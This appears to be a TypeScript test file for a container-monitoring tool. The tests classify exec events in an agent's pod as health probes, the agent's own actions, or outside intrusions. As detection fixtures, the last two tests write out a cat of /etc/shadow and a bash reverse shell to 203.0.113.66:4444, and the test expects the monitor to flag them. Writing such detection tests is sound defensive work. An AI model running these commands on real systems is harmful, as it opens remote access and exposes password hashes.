import type { ExecEvent } from "@bailiff/proto";
import { expect, test } from "vitest";
import { anExecOf, execsOf, withCommand } from "../testing/commands.ts";
import { corpusObjects, directory, findingsOn } from "../testing/engine.ts";
import { originOf } from "./origin.ts";

const objects = corpusObjects();
const [probe] = execsOf("dev-benign-1", "cat", "/tmp/healthy", "support-bot-");

function origin(event: ExecEvent, knowsPods = true): string {
  const { identities } = directory(knowsPods ? objects : []);
  const subject = identities.resolve(event.process, event.node);
  if (subject === undefined) throw new Error("the recorded exec belongs to nobody");
  return originOf(event.process, event.parent, subject);
}

test("a declared probe that comes from outside is a probe, with and without the pod's object", () => {
  expect(probe?.process.inInitTree).toBe(false);
  expect(probe && origin(probe)).toBe("probe");
  expect(probe && origin(probe, false)).toBe("probe");
});

test("the probe's command, run by the agent itself, is an imitation and judged", () => {
  const imitated = withCommand(anExecOf("support-bot"), "/usr/bin/cat", "/tmp/healthy");
  expect(imitated.process.inInitTree).toBe(true);
  expect(origin(imitated)).toBe("agent");
  const flagged = {
    ...imitated,
    process: { ...imitated.process, maybeExecProbe: true },
  };
  expect(origin(flagged, false)).toBe("agent");
});

test.each([
  ["/usr/bin/cat", "/tmp/healthy", "probe"],
  ["/bin/cat", "/tmp/healthy", "probe"],
  ["/usr/bin/cat", "/tmp/healthy /etc/shadow", "outside"],
  ["/usr/bin/cat", "/etc/shadow", "outside"],
  ["/usr/bin/bash", "/tmp/healthy", "outside"],
])("from outside, %s %s is a %s, whatever Tetragon guesses", (binary, words, wanted) => {
  expect(probe && origin(withCommand(probe, binary, words))).toBe(wanted);
});

test("what a probe does is not judged, what anybody else does from outside is", () => {
  const shadow = probe && withCommand(probe, "/usr/bin/bash", '-c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"');
  expect(probe && findingsOn([probe])).toEqual([]);
  expect((shadow ? findingsOn([shadow]) : []).map(({ rule }) => rule)).toEqual([
    "reverse-shell",
    "entered-from-outside",
  ]);
});
